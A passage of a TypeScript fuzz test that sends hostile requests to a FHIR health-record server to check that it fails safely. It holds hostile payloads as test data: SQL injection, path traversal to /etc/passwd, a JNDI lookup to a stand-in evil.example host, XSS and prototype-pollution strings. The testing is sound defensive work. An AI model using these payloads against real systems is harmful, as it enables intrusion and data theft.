/**
 * Hostile input: a deterministic fuzzer sends thousands of malformed and hostile requests to a real
 * server process over real HTTP — broken and oversized JSON, mutated resources, bad search
 * parameters, PATCHes, operations, Bundles, conditional headers, forged tokens and DPoP proofs,
 * bad NHN headers, and (over raw sockets) malformed request lines, headers and lengths — and checks
 * that every answer is a 4xx or 2xx (never a 5xx), that errors are OperationOutcomes without stack
 * traces, file paths or national ids, that the process stays up and ready, and that data seeded
 * before (a patient the fuzz never names) is unchanged afterwards.
 *
 * Every case is generated from its own PRNG, seeded from FUZZ_SEED and the case's index, so a
 * failure names the seed and the case and can be replayed alone: FUZZ_SEED=<seed> FUZZ_ONLY=<index>
 * (or a list, `12,40-45`: sent one at a time).
 * FUZZ_REQUESTS overrides the number of generated cases. Needs `npm run build` (the server runs as
 * `node dist/main.js`; FUZZ_SERVER_SCRIPT names another build of it).
 */
import { createHash, generateKeyPairSync } from 'node:crypto';
import { connect } from 'node:net';
import type { Bundle, Resource } from '@medplum/fhirtypes';
import { SignJWT } from 'jose';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { clinicianHeaders, FNR, token } from '../../bench/lib/api.js';
import { type BenchDatabase, openBenchDatabase } from '../../bench/lib/database.js';
import { freePort, type Running, startProcess } from '../../bench/lib/server.js';
import { main as tokenMain } from '../../scripts/token.js';
import { citizenByKey } from '../../src/demo/population.js';
import { dpopKeyFromJwk, dpopProof, type DpopKey } from '../../src/idp/token-client.js';
import { isValidNin, syntheticNin } from '../../src/no/identifiers.js';
import { MAIN, serverEnv, SHORT } from './support.js';

const SEED = Number(process.env.FUZZ_SEED ?? 20_260_501);
/** Generated cases (each one request; raw-socket cases one connection); the hand-written ones come on top. */
const CASES = Number(process.env.FUZZ_REQUESTS ?? (SHORT ? 5_200 : 12_000));
const ONLY = process.env.FUZZ_ONLY?.split(',').flatMap((part) => {
  const [from, to = from] = part.split('-').map(Number) as [number, number?];
  return Array.from({ length: to - from + 1 }, (_, i) => from + i);
});
const CONCURRENCY = 8;
/** A small body limit, so that the 413 path is cheap to reach. */
const BODY_LIMIT = 1_048_576;
const REQUEST_TIMEOUT_MS = 20_000;
const ROLE_SYSTEM = 'urn:oid:2.16.578.1.12.4.1.1.9060';

// ---------------------------------------------------------------------------------------------
// Deterministic randomness

class Rng {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0;
  }
  /** mulberry32 */
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  }
  int(n: number): number {
    return Math.floor(this.next() * n);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)] as T;
  }
  weighted<T>(items: ReadonlyArray<readonly [number, T]>): T {
    const total = items.reduce((s, [w]) => s + w, 0);
    let r = this.next() * total;
    for (const [w, item] of items) {
      r -= w;
      if (r < 0) return item;
    }
    return (items[items.length - 1] as readonly [number, T])[1];
  }
}

function caseSeed(seed: number, index: number): number {
  return createHash('sha256').update(`${seed}:${index}`).digest().readUInt32LE(0);
}

// ---------------------------------------------------------------------------------------------
// Hostile material

const INJECTION = [
  "' OR '1'='1",
  "'; DROP TABLE resources; --",
  "1); DELETE FROM resource_history; --",
  "x' UNION SELECT content FROM resources --",
  "'||pg_sleep(5)||'",
  '$$; SELECT pg_sleep(5); $$',
  "E'\\\\x00'",
  '\\',
  '\\\\',
  '\\,',
  '\\|',
  '\\$',
  '%',
  '%%',
  '_',
  '%00',
  '%ZZ',
  '%u0000',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '{"$gt": ""}',
  '[{"op":"remove","path":"/"}]',
  "$.store[?(@.price < 10)]",
  'Patient.name.where(true)',
  '@@',
  '->>',
  "'::jsonb",
  '#>>{}',
  '*',
  '?',
  '&',
  '=',
  '|',
  ',',
  '$',
  ':',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
];
const UNICODE = [
  '\u0000',
  'a\u0000b',
  '\ud800',
  '\udfff',
  'x\ud83d',
  '🦄🧨',
  'e\u0301\u0301\u0301',
  '\u202eevil',
  '\u200b\u200c\u200d\ufeff',
  'Æøå ÆØÅ',
  '\u0007\u0008\u001b[31m',
  '\r\n\r\n',
  '\uffff\ufffe',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
];
const NUMBERS_RAW = ['1e400', '-1e400', '-0', '1E999999999', '0.' + '0'.repeat(400) + '1', '123456789012345678901234567890', '9007199254740993', '-9007199254740993', '1.7976931348623157e308', '5e-324', '00012', '1.', '.5', '+1', '0x10', 'NaN', 'Infinity'];
const NUMBERS = [0, -1, 1.5, 2_147_483_647, 2_147_483_648, -2_147_483_649, Number.MAX_SAFE_INTEGER, Number.MAX_VALUE, -Number.MAX_VALUE, Number.MIN_VALUE, 1e21, 4_294_967_296];
const DATES = ['2024-13-45', '0000-00-00', '9999-12-31T23:59:59Z', '2024-02-30', '2024-01-01T25:61:61+99:99', '-2024-01-01', '20240101', '2024', '2024-1-1', 'now', 'yesterday', '1e10', '2024-01-01T00:00:00.0000000000001Z', '+275760-09-13', '2024-01-01T00:00:00', ''];
const PROTO_KEYS = ['__proto__', 'constructor', 'prototype', '__defineGetter__', 'toJSON', 'valueOf'];

/** A random hostile string: injection, odd unicode, a huge string, a number or date in text, a nin. */
function hostileString(rng: Rng, w: World): string {
  return rng.weighted<() => string>([
    [5, () => rng.pick(INJECTION)],
    [3, () => rng.pick(UNICODE)],
    [1, () => 'A'.repeat(rng.pick([256, 4096, 70_000]))],
    [1, () => rng.pick(UNICODE).repeat(rng.pick([10, 1000]))],
    [2, () => rng.pick(NUMBERS_RAW)],
    [2, () => rng.pick(DATES)],
    [2, () => rng.pick(w.allNins)],
    [1, () => `${rng.pick(w.allNins).slice(0, 10)}${rng.int(10)}`],
    [1, () => `Patient/${rng.pick(w.foreignIds)}`],
    [1, () => ''],
    [1, () => ' '.repeat(rng.int(5) + 1)],
  ])();
}

/** JSON text placeholders: numbers JSON.stringify cannot write (1e400, -0) and raw fragments. */
const RAW = (text: string) => `@@RAW(${text})@@`;
function finishJson(text: string): string {
  return text.replace(/"@@RAW\((.*?)\)@@"/g, (_m, raw: string) => raw.replace(/\\"/g, '"').replace(/\\\\/g, '\\'));
}

function deepNest(depth: number, rng: Rng): unknown {
  let v: unknown = rng.pick(['x', 1, null, true]);
  for (let i = 0; i < depth; i++) v = rng.chance(0.5) ? [v] : { [rng.pick(['a', 'extension', 'valueString'])]: v };
  return v;
}

function setOwn(obj: Record<string, unknown>, key: string, value: unknown): void {
  // Defined, not assigned: `obj.__proto__ = x` would change the prototype, not add a key.
  Object.defineProperty(obj, key, { value, enumerable: true, writable: true, configurable: true });
}

// ---------------------------------------------------------------------------------------------
// Mutation of valid resources

type Json = null | boolean | number | string | Json[] | { [k: string]: Json };

function clone<T>(v: T): T {
  return JSON.parse(JSON.stringify(v)) as T;
}

/** Every container (object or array) and key in a JSON value, with its parent. */
function slots(root: Json): Array<{ parent: Json[] | { [k: string]: Json }; key: string | number }> {
  const out: Array<{ parent: Json[] | { [k: string]: Json }; key: string | number }> = [];
  const stack: Json[] = [root];
  while (stack.length) {
    const v = stack.pop() as Json;
    if (Array.isArray(v)) v.forEach((c, i) => (out.push({ parent: v, key: i }), stack.push(c)));
    else if (v && typeof v === 'object') for (const [k, c] of Object.entries(v)) out.push({ parent: v, key: k }), stack.push(c);
  }
  return out;
}

function wrongType(v: unknown, rng: Rng): unknown {
  if (typeof v === 'string') return rng.pick<unknown>([rng.pick(NUMBERS), true, [v], { value: v }, null]);
  if (typeof v === 'number') return rng.pick<unknown>([String(v), [v], { value: v }, false, RAW(rng.pick(NUMBERS_RAW))]);
  if (typeof v === 'boolean') return rng.pick<unknown>(['true', 1, 0, [v], null]);
  if (Array.isArray(v)) return rng.pick<unknown>([v[0] ?? 'x', {}, 'array', v.length, [v]]);
  if (v && typeof v === 'object') return rng.pick<unknown>([[v], 'object', 42, true, []]);
  return rng.pick<unknown>([{}, [], 'null', 0]);
}

/** Applies 1–4 random mutations to a copy of a resource. */
function mutate(resource: Resource, rng: Rng, w: World): Record<string, unknown> {
  const doc = clone(resource) as unknown as { [k: string]: Json };
  const rounds = 1 + rng.int(4);
  for (let r = 0; r < rounds; r++) {
    const all = slots(doc);
    const slot = all.length ? rng.pick(all) : { parent: doc, key: 'id' };
    const parent = slot.parent as Record<string | number, unknown>;
    const current = parent[slot.key];
    rng.weighted<() => void>([
      [6, () => (parent[slot.key] = wrongType(current, rng))],
      [3, () => (parent[slot.key] = null)],
      [3, () => (Array.isArray(parent) ? parent.splice(slot.key as number, 1) : delete parent[slot.key])],
      [6, () => (parent[slot.key] = hostileString(rng, w))],
      [3, () => (parent[slot.key] = rng.chance(0.5) ? rng.pick(NUMBERS) : RAW(rng.pick(NUMBERS_RAW)))],
      [2, () => (parent[slot.key] = rng.pick(DATES))],
      [2, () => (parent[slot.key] = rng.chance(0.5) ? {} : [])],
      [2, () => (parent[slot.key] = deepNest(rng.pick([10, 40, 63, 70, 200]), rng))],
      [1, () => (parent[slot.key] = Array.from({ length: rng.pick([1000, 20_000]) }, () => (typeof current === 'string' ? current.slice(0, 20) : typeof current === 'number' ? current : 'x')))],
      [3, () => setOwn(doc as Record<string, unknown>, rng.pick(PROTO_KEYS), rng.chance(0.5) ? { polluted: true, status: 'active' } : 'polluted')],
      [2, () => current && typeof current === 'object' && !Array.isArray(current) && setOwn(current as Record<string, unknown>, rng.pick(PROTO_KEYS), { isAdmin: true })],
      [2, () => (parent[slot.key] = { ...(typeof current === 'object' && current ? current : {}), [rng.pick(['unknownField', '_status', '_id', 'extension', 'modifierExtension', 'contained', 'fhir_comments', ''])]: hostileString(rng, w) })],
      [2, () => (doc.resourceType = rng.pick<Json>(['Patient', 'Bundle', 'OperationOutcome', 'Parameters', 'Binary', 'NotAType', '', 42, null, ['Goal'], 'goal', 'AuditEvent']))],
      [2, () => (doc.id = rng.pick<Json>([rng.pick(w.foreignIds), '../x', 'a'.repeat(65), '', 7, null, 'x y', rng.pick(w.allNins), crypto.randomUUID()]))],
      [2, () => (doc.meta = rng.pick<Json>([{ versionId: '999999' }, { versionId: -1 }, { security: [{ system: 'x', code: 'R' }] }, { tag: 'x' }, { profile: ['http://evil.example/sd'] }, 'meta', { lastUpdated: '1900-01-01T00:00:00Z' }]))],
      [3, () => retargetReferences(doc, rng, w)],
      [2, () => (doc.contained = [clone(rng.pick(w.materials) as unknown as Json), { resourceType: 'Patient', id: 'p', identifier: [{ system: FNR, value: rng.pick(w.allNins) }] }])],
      [1, () => (doc.text = { status: 'generated', div: rng.pick(['<div xmlns="http://www.w3.org/1999/xhtml"><script>x()</script></div>', '<div>', 'not xhtml', '<div xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror=alert(1)/></div>']) })],
    ])();
  }
  return doc;
}

function retargetReferences(doc: Json, rng: Rng, w: World): void {
  for (const slot of slots(doc)) {
    if (slot.key === 'reference' && rng.chance(0.6)) {
      (slot.parent as Record<string, Json>).reference = rng.pick([
        `Patient/${w.sentinel.patientId}`,
        `CarePlan/${w.sentinel.planId}`,
        `Patient/${crypto.randomUUID()}`,
        'urn:uuid:00000000-0000-0000-0000-000000000000',
        'http://evil.example/fhir/Patient/1',
        'Patient/../../Patient',
        '#missing',
        'Patient?identifier=x',
        `Patient?identifier=${FNR}|${rng.pick(w.allNins)}`,
        'Goal/',
        '/',
        '',
        rng.pick(INJECTION),
        `CarePlan/${rng.pick(w.foreignIds)}/_history/999999`,
      ]);
    }
  }
}

// ---------------------------------------------------------------------------------------------
// The world the fuzzer works in: tokens, patients and their data, links

interface Target {
  key: string;
  nin: string;
  patientId: string;
  planId: string;
}

interface World {
  base: string;
  baseUrl: string;
  dataDir: string;
  tokens: Record<'clinician' | 'nurse' | 'blocked' | 'citizen' | 'parent' | 'machine' | 'exporter', string>;
  dpop: { token: string; key: DpopKey };
  targets: Target[];
  /** A patient the fuzz never names in a header or body nin: its data must not change. */
  sentinel: Target;
  /** Valid resources to mutate (the targets' plans and their parts). */
  materials: Resource[];
  /** Ids of existing resources, the sentinel's included (to probe isolation). */
  foreignIds: string[];
  idsByType: Map<string, string[]>;
  templates: string[];
  pageLinks: string[];
  /** Every demo citizen's nin (the sentinel's excluded) plus valid synthetic nins of nobody. */
  allNins: string[];
  /** Every nin known to the server: none may be in an error answer. */
  knownNins: string[];
}

async function fetchJson<T>(w: Pick<World, 'base'>, method: string, p: string, headers: Record<string, string>, body?: string, form = false): Promise<{ status: number; body: T; headers: Headers }> {
  const res = await fetch(`${w.base}/fhir/${p}`, {
    method,
    headers: { ...headers, ...(body !== undefined ? { 'content-type': form ? 'application/x-www-form-urlencoded' : 'application/fhir+json' } : {}) },
    ...(body !== undefined ? { body } : {}),
  });
  const text = await res.text();
  return { status: res.status, body: (text ? JSON.parse(text) : {}) as T, headers: res.headers };
}

const PLAN_TYPES = ['CarePlan', 'Goal', 'Condition', 'Observation', 'CareTeam', 'Consent', 'Task', 'Flag', 'RelatedPerson', 'Provenance', 'ServiceRequest', 'QuestionnaireResponse'];

/** A patient's whole compartment, as `Type/id/version` → resource JSON, read as their GP. */
async function compartment(w: World, t: Target): Promise<Map<string, string>> {
  const out = new Map<string, string>();
  const headers = clinicianHeaders(w.tokens.clinician, t.nin);
  const patient = await fetchJson<Resource>(w, 'GET', `Patient/${t.patientId}`, headers);
  if (patient.status !== 200) throw new Error(`Patient/${t.patientId}: ${patient.status} ${JSON.stringify(patient.body)}`);
  out.set(`Patient/${t.patientId}/${patient.body.meta?.versionId}`, JSON.stringify(patient.body));
  for (const type of PLAN_TYPES) {
    const res = await fetchJson<Bundle>(w, 'GET', `Patient/${t.patientId}/${type}?_count=1000`, headers);
    if (res.status !== 200) throw new Error(`Patient/${t.patientId}/${type}: ${res.status} ${JSON.stringify(res.body).slice(0, 300)}`);
    for (const e of res.body.entry ?? []) {
      const r = e.resource as Resource;
      out.set(`${r.resourceType}/${r.id}/${r.meta?.versionId}`, JSON.stringify(r));
    }
  }
  return out;
}

async function planOf(w: World, key: string): Promise<{ target: Target; resources: Resource[] }> {
  const nin = citizenByKey(key).pid;
  const res = await fetchJson<Bundle>(
    w,
    'POST',
    'CarePlan/_search',
    clinicianHeaders(w.tokens.clinician, nin),
    new URLSearchParams({ 'subject:Patient.identifier': `${FNR}|${nin}`, _include: '*', _revinclude: 'Observation:based-on', _count: '200' }).toString(),
    true,
  );
  if (res.status !== 200) throw new Error(`the plan of ${key}: ${res.status} ${JSON.stringify(res.body).slice(0, 500)}`);
  const resources = (res.body.entry ?? []).map((e) => e.resource as Resource);
  const patientId = resources.find((r) => r.resourceType === 'Patient')?.id;
  const planId = resources.find((r) => r.resourceType === 'CarePlan')?.id;
  if (!patientId || !planId) throw new Error(`${key} has no plan: the server must seed the demo data (SEED_DEMO_DATA=true on an empty database)`);
  return { target: { key, nin, patientId, planId }, resources };
}

async function dpopToken(base: string, dataDir: string): Promise<{ token: string; key: DpopKey }> {
  let out = '';
  const code = await tokenMain(['clinician', 'fastlege', '--dpop', '--server', base, '--data-dir', dataDir], { out: (t) => (out += t), err: () => undefined });
  if (code !== 0) throw new Error('no DPoP token');
  const accessToken = /^ACCESS_TOKEN=(.*)$/m.exec(out)?.[1] as string;
  const jwk = /^DPOP_KEY='(.*)'$/m.exec(out)?.[1] as string;
  return { token: accessToken, key: await dpopKeyFromJwk(JSON.parse(jwk)) };
}

async function buildWorld(server: Running, db: BenchDatabase, baseUrl: string): Promise<World> {
  const base = server.url;
  const dir = db.dataDir;
  const [clinician, nurse, blocked, citizen, parent, machine, exporter, dpop] = await Promise.all([
    token(base, dir, ['clinician', 'fastlege']),
    token(base, dir, ['clinician', 'hjemmesykepleier']),
    token(base, dir, ['clinician', 'vikarlege']),
    token(base, dir, ['citizen', 'anne']),
    token(base, dir, ['citizen', 'marte', '--for', 'lilly']),
    token(base, dir, ['machine'], 'nhn:samplan/status nhn:samplan/read'),
    token(base, dir, ['clinician', 'fastlege'], 'nhn:samplan/read nhn:samplan/write nhn:samplan/export'),
    dpopToken(base, dir),
  ]);
  const w: World = {
    base,
    baseUrl,
    dataDir: dir,
    tokens: { clinician, nurse, blocked, citizen, parent, machine, exporter },
    dpop,
    targets: [],
    sentinel: undefined as unknown as Target,
    materials: [],
    foreignIds: [],
    idsByType: new Map(),
    templates: [],
    pageLinks: [],
    allNins: [],
    knownNins: [],
  };
  for (const key of ['anne', 'bjorn', 'eldar', 'lilly']) {
    const { target, resources } = await planOf(w, key);
    w.targets.push(target);
    w.materials.push(...resources.filter((r) => r.resourceType !== 'Patient' || r.id === target.patientId));
  }
  w.sentinel = (await planOf(w, 'dagny')).target;
  const sentinelData = await compartment(w, w.sentinel);
  for (const r of w.materials) {
    if (!r.id) continue;
    w.idsByType.set(r.resourceType, [...(w.idsByType.get(r.resourceType) ?? []), r.id]);
  }
  w.foreignIds = [...new Set([...w.materials.map((r) => r.id as string), ...[...sentinelData.keys()].map((k) => k.split('/')[1] as string)])];
  const h = clinicianHeaders(clinician, w.targets[0]?.nin);
  const templates = await fetchJson<Bundle>(w, 'GET', 'PlanDefinition?_count=50', h);
  w.templates = (templates.body.entry ?? []).map((e) => e.resource?.id as string);
  // Real paging links: a GET search's and a POST search's (an opaque _page token).
  for (const [method, p, body] of [
    ['GET', 'Goal?_count=1', undefined],
    ['GET', 'Observation?_count=2&_sort=-date', undefined],
    ['POST', 'CarePlan/_search', new URLSearchParams({ 'subject:Patient.identifier': `${FNR}|${w.targets[0]?.nin}`, _count: '1', _include: '*' }).toString()],
    ['POST', 'Goal/_search', new URLSearchParams({ _count: '1' }).toString()],
  ] as const) {
    const res = await fetchJson<Bundle>(w, method, p, h, body, true);
    const next = res.body.link?.find((l) => l.relation === 'next')?.url;
    if (next) w.pageLinks.push(next.replace(/^.*?\/fhir\//, ''));
  }
  const nobody = Array.from({ length: 4 }, (_, i) => syntheticNin(`19${50 + i}-0${i + 1}-1${i}`, 300 + i));
  w.allNins = [...['anne', 'bjorn', 'eldar', 'lilly', 'marte', 'jonas', 'hanne', 'gunnar'].map((k) => citizenByKey(k).pid), ...nobody];
  w.knownNins = [...w.allNins, w.sentinel.nin];
  return w;
}

// ---------------------------------------------------------------------------------------------
// Cases

type DpopMode = 'valid' | 'wrong-url' | 'wrong-method' | 'replay' | 'no-ath' | 'old' | 'future' | 'alg-none' | 'other-key' | 'garbage' | 'private-jwk' | 'none';

interface Case {
  index: number;
  kind: string;
  method: string;
  /** Path and query, from the server root: `/fhir/Goal?x=1`. */
  target: string;
  headers: Record<string, string>;
  body?: string | Buffer;
  dpop?: DpopMode;
  /** Send over a raw socket (bytes fetch will not send), with this exact request text. */
  raw?: Buffer;
  /** A raw case that may be cut off by the server without an answer (e.g. a stalled body). */
  mayStall?: boolean;
}

function authFor(rng: Rng, w: World, nin?: string): Record<string, string> {
  return rng.weighted<() => Record<string, string>>([
    [12, () => clinicianHeaders(w.tokens.clinician, nin)],
    [2, () => ({ ...clinicianHeaders(w.tokens.nurse, nin), 'nhn-user-role': encodeURIComponent(JSON.stringify({ system: ROLE_SYSTEM, code: 'SP' })) })],
    [1, () => clinicianHeaders(w.tokens.blocked, nin)],
    [1, () => clinicianHeaders(w.tokens.exporter, nin)],
    [2, () => ({ authorization: `Bearer ${w.tokens.citizen}` })],
    [1, () => ({ authorization: `Bearer ${w.tokens.parent}` })],
    [1, () => ({ authorization: `Bearer ${w.tokens.machine}` })],
  ])();
}

function targetOf(rng: Rng, w: World): Target {
  return rng.pick(w.targets);
}

function idOf(rng: Rng, w: World, type: string): string {
  return rng.weighted<() => string>([
    [6, () => rng.pick(w.idsByType.get(type) ?? w.foreignIds)],
    [2, () => rng.pick(w.foreignIds)],
    [1, () => crypto.randomUUID()],
    [1, () => rng.pick(['x', 'a'.repeat(64), 'a'.repeat(65), '..', '.', '-', 'A.B-c', '0', enc(rng.pick(INJECTION)), '%2e%2e', '%00', 'Patient', '_history', '$everything'])],
  ])();
}

/** Percent-encoding that keeps lone surrogates, as the (invalid) UTF-8 bytes of one. */
const enc = (s: string) => s.split(/([\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff])/).map((part, i) => (i % 2 ? '%ED%A0%80' : encodeURIComponent(part))).join('');
const q = (pairs: Array<[string, string]>) => pairs.map(([k, v]) => `${enc(k)}=${enc(v)}`).join('&');

const TYPES = ['CarePlan', 'Goal', 'Condition', 'Observation', 'Patient', 'CareTeam', 'Task', 'Flag', 'Provenance', 'Consent', 'RelatedPerson', 'PlanDefinition', 'ActivityDefinition', 'Practitioner', 'Organization', 'PractitionerRole', 'Subscription', 'ServiceRequest', 'Questionnaire', 'QuestionnaireResponse', 'AuditEvent', 'Bundle', 'Binary', 'Basic', 'Medication'];
const ODD_TYPES = ['NotAType', 'patient', 'CAREPLAN', 'Resource', 'DomainResource', 'OperationOutcome', '__proto__', 'constructor', '%24export', '', '..'];
const PARAMS = [
  '_id', '_lastUpdated', '_tag', '_profile', '_security', '_source', '_text', '_content', '_list', '_type', '_query', '_filter',
  'patient', 'subject', 'status', 'category', 'code', 'date', 'identifier', 'name', 'family', 'given', 'birthdate', 'gender',
  'based-on', 'part-of', 'instantiates-canonical', 'lifecycle-status', 'target-date', 'activity-date', 'period', 'intent',
  'performer', 'participant', 'author', 'url', 'version', 'title', 'agent', 'entity', 'recorded', 'target', 'authored-on', 'focus',
  'owner', 'requester', 'value-quantity', 'value-string', 'value-concept', 'component-code-value-quantity', 'combo-code-value-quantity',
  'encounter', 'care-team', 'goal', 'condition', 'address', 'telecom', 'email', 'general-practitioner', 'organization', 'link', 'active',
  'scope', 'action', 'provision-actor', 'clinical-status', 'onset-date', 'bogus', 'Status', '', ' ',
];
const MODIFIERS = ['', '', '', ':exact', ':contains', ':missing', ':not', ':above', ':below', ':in', ':not-in', ':text', ':of-type', ':identifier', ':iterate', ':Patient', ':Goal', ':bogus', ':', '::', ':exact:contains', ':missing:not'];
const PREFIXES = ['', '', 'eq', 'ne', 'gt', 'lt', 'ge', 'le', 'sa', 'eb', 'ap', 'xx', 'gtgt'];

function searchValue(rng: Rng, w: World): string {
  return rng.weighted<() => string>([
    [3, () => `${rng.pick(PREFIXES)}${rng.pick(DATES)}`],
    [2, () => `${rng.pick(PREFIXES)}${rng.pick([...NUMBERS.map(String), ...NUMBERS_RAW])}`],
    [2, () => `${rng.pick(PREFIXES)}${rng.pick(['5.4|http://unitsofmeasure.org|mg', '5||mg', '|||', '1e400|x|y', 'abc|def', '5.4|', '|mg'])}`],
    [3, () => rng.pick(['active', 'completed', 'http://loinc.org|', '|x', 'a|b|c', 'system|', FNR + '|', `${FNR}|${rng.pick(w.allNins)}`, 'true', 'false'])],
    [3, () => rng.pick([`Patient/${w.sentinel.patientId}`, `Patient/${targetOf(rng, w).patientId}`, `CarePlan/${rng.pick(w.foreignIds)}`, 'http://evil.example/Patient/1', 'Patient/', '/', `${rng.pick(w.foreignIds)}`])],
    [4, () => hostileString(rng, w).slice(0, 5000)],
    [1, () => Array.from({ length: rng.pick([50, 500, 3000]) }, () => rng.pick(['active', 'x', '1', 'Patient/a'])).join(',')],
    [1, () => rng.pick(['\\,', 'a\\,b', 'a\\|b', 'a\\$b', 'x\\', '\\\\\\'])],
  ])();
}

function searchPairs(rng: Rng, w: World): Array<[string, string]> {
  const pairs: Array<[string, string]> = [];
  const n = 1 + rng.int(rng.chance(0.1) ? 60 : 4);
  for (let i = 0; i < n; i++) {
    pairs.push(
      rng.weighted<() => [string, string]>([
        [8, () => [`${rng.pick(PARAMS)}${rng.pick(MODIFIERS)}`, searchValue(rng, w)]],
        [2, () => [rng.pick(['subject:Patient.name', 'subject.name', 'patient.general-practitioner.name', 'subject:Patient.identifier', 'based-on:CarePlan.subject:Patient.birthdate', 'subject:Bogus.x', 'subject.', '.name', `subject${'.subject'.repeat(rng.pick([3, 12]))}`, 'goal.subject.name', 'subject:Patient._has:Goal:patient:status']), searchValue(rng, w)]],
        [2, () => [rng.pick(['_has:Goal:patient:lifecycle-status', '_has:Observation:subject:code', '_has:Goal:subject:_has:Observation:subject:status', '_has:Bogus:x:y', '_has::::', '_has:Goal', '_has:Goal:patient', `_has${':Goal:patient'.repeat(8)}:status`]), searchValue(rng, w)]],
        [2, () => ['_sort', rng.pick(['date', '-date', '--date', '_id', '-_lastUpdated', 'status,-date,_id', 'bogus', ',,', '-', '', '_score', 'subject.name', '__proto__', 'date,date,date,date,date,date,date'])]],
        [2, () => ['_count', rng.pick(['-1', '0', '1', '1e9', 'abc', '999999999999', '1.5', '', '10000', '00', '+5', ' 5'])]],
        [1, () => ['_elements', rng.pick(['id,meta', '__proto__', '*', 'status,,', 'subject.reference', 'constructor', '', 'a'.repeat(5000)])]],
        [1, () => ['_summary', rng.pick(['true', 'count', 'text', 'data', 'false', 'bogus', ''])]],
        [1, () => ['_total', rng.pick(['accurate', 'none', 'estimate', 'bogus'])]],
        [2, () => [rng.pick(['_include', '_revinclude', '_include:iterate', '_revinclude:iterate', '_include:recurse', '_include:bogus']), rng.pick(['*', 'CarePlan:subject', 'CarePlan:*', 'CarePlan:subject:Patient', 'Bogus:x', 'Goal:subject:Bogus', ':', 'CarePlan:', '::', 'Observation:based-on', 'Provenance:target', 'CarePlan:goal:Goal', 'CarePlan:care-team'])]],
        [1, () => [rng.pick(['_format', '_pretty', '_contained', '_containedType', '_at', '_since', '_offset', '_cursor', '_page']), rng.pick(['json', 'xml', 'true', 'both', 'x', '0', '-5', hostileString(rng, w).slice(0, 200)])]],
      ])(),
    );
  }
  return pairs;
}

function resourceBody(rng: Rng, w: World, type?: string): { text: string; type: string; resource: Record<string, unknown> } {
  const pool = type ? w.materials.filter((r) => r.resourceType === type) : w.materials;
  const source = rng.pick(pool.length ? pool : w.materials);
  const resource = rng.chance(0.9) ? mutate(source, rng, w) : (clone(source) as unknown as Record<string, unknown>);
  let text = finishJson(JSON.stringify(resource));
  if (rng.chance(0.1)) text = text.replace(/"(status|id|resourceType|subject)":/, (_m, k: string) => `"${k}":${JSON.stringify(hostileString(rng, w).slice(0, 100))},"${k}":`);
  return { text, type: source.resourceType, resource };
}

function jsonPatchOps(rng: Rng, w: World): unknown {
  const op = (cheap = false) => ({
    op: rng.pick(['add', 'remove', 'replace', 'move', 'copy', 'test', 'bogus', '', 'ADD', 1]),
    path: rng.pick(['/status', '/id', '/meta', '/meta/versionId', '/resourceType', '/subject/reference', '/__proto__/polluted', '/constructor/prototype/x', '/note/-', '/note/0', '/note/99999', '/note/-1', '/~2', '/~01', '', '/', 'status', '/a/b/c/d', `/${'x/'.repeat(100)}`, '/identifier/0/value', '/extension/0']),
    value: cheap
      ? rng.pick(['completed', 'x', 1])
      : rng.weighted<() => unknown>([[3, () => hostileString(rng, w)], [1, () => rng.pick<unknown>([null, 42, [], {}, 'completed', 'active', rng.pick(w.allNins)])], [1, () => ({ reference: `Patient/${w.sentinel.patientId}` })], [1, () => deepNest(70, rng)]])(),
    ...(rng.chance(0.4) ? { from: rng.pick(['/status', '/__proto__', '/note/0', '', '/nope']) } : {}),
  });
  return rng.weighted<() => unknown>([
    [6, () => Array.from({ length: 1 + rng.int(4) }, () => op())],
    [1, () => Array.from({ length: rng.pick([2000, 20_000]) }, () => op(true))],
    [1, () => op()],
    [1, () => rng.pick<unknown>([[], {}, 'patch', null, [[]], [null], [{}]])],
  ])();
}

function fhirPathPatch(rng: Rng, w: World): unknown {
  const part = (cheap = false) => ({
    name: 'operation',
    part: [
      { name: 'type', valueCode: rng.pick(['add', 'insert', 'delete', 'replace', 'move', 'bogus', '']) },
      { name: 'path', valueString: rng.pick(['Goal', 'CarePlan.status', 'Goal.where(', 'Goal.descendants()', '%resource', '$this', 'Goal.note[0]', 'CarePlan.activity.where(detail.status = \'x\')', 'Goal.extension(\'http://x\')', 'repeat(descendants())', "iif(true, 'a', 'b')", 'Patient.name.first().given', "Goal.select(%resource.repeat(descendants()))", 'x'.repeat(5000), rng.pick(INJECTION), '']) },
      ...(rng.chance(0.7) ? [{ name: 'name', valueString: rng.pick(['note', 'status', '__proto__', 'constructor', 'extension', '', 'id']) }] : []),
      ...(rng.chance(0.7) ? [rng.pick<unknown>([{ name: 'value', valueString: cheap ? 'x' : hostileString(rng, w) }, { name: 'value', valueInteger: 1e300 }, { name: 'value', part: [{ name: 'text', valueString: 'x' }] }, { name: 'value' }, { name: 'value', valueReference: { reference: `Patient/${w.sentinel.patientId}` } }])] : []),
      ...(rng.chance(0.3) ? [{ name: rng.pick(['index', 'source', 'destination']), valueInteger: rng.pick([-1, 0, 1, 99999, 2 ** 31, 1.5]) }] : []),
    ],
  });
  return rng.weighted<() => unknown>([
    [6, () => ({ resourceType: 'Parameters', parameter: Array.from({ length: 1 + rng.int(3) }, () => part()) })],
    [1, () => ({ resourceType: 'Parameters', parameter: Array.from({ length: 3000 }, () => part(true)) })],
    [1, () => ({ resourceType: 'Parameters', parameter: rng.pick<unknown>([null, {}, 'x', [{}], [{ name: 'operation' }], [{ name: 'operation', part: 'x' }]]) })],
  ])();
}

function bundleBody(rng: Rng, w: World, t: Target): unknown {
  const entry = () =>
    rng.weighted<() => unknown>([
      [5, () => {
        const { resource, type } = resourceBody(rng, w);
